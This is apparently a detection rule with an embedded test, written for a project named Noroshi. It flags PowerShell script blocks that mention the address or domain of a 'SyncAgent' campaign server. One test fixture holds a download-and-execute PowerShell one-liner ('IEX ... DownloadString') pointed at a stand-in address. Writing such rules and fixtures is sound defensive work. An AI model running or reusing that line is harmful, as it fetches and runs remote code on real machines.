/*---
id: 1e9862b9-08a9-4c12-b7d2-e1deddf24f08
title: Script names the server of the SyncAgent campaign
description: >-
  A PowerShell script block or pipeline has the address or the domain of the campaign in it.
status: test
level: critical
tags: [attack.execution, attack.t1059.001, attack.command-and-control, attack.t1105]
author: Noroshi project
date: "2026-11-23"
falsepositives:
  - None known.
entity: [Computer]
tests:
  - name: 'the address, and a longer one'
    given:
      - {EventID: 4104, Computer: 'RAIL-DSP-07.rail.example', ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.77/a'')'}
      - {EventID: 4104, Computer: 'ws2', ScriptBlockText: 'Test-Connection 203.0.113.7'}
    expect:
      - {Computer: 'RAIL-DSP-07.rail.example'}
---*/
SELECT Computer, User, EventID, ScriptBlockText, Payload
FROM   script_activity
WHERE  ScriptBlockText ~* '(203\.0\.113\.77\b|cdn-sync\.example)' OR Payload ~* '(203\.0\.113\.77\b|cdn-sync\.example)'
